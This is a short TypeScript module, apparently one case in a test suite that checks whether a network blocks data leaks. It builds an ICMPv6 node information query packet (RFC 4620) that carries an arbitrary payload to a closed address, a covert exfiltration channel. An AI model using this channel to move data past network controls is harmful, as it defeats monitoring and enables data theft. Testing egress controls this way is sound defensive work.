import type { Attack } from '../../prove/attack.ts'
import { icmpPacket } from '../../prove/packet.ts'

export default {
  tries: 'carries data in node information queries (RFC 4620)',
  assumes: ['net_raw'],
  run: ({ packet, own, closed, payload }) =>
    packet(icmpPacket({ source: own[6], destination: closed[6] }, 139, 0, Buffer.concat([new Uint8Array(4), payload]))),
} satisfies Attack
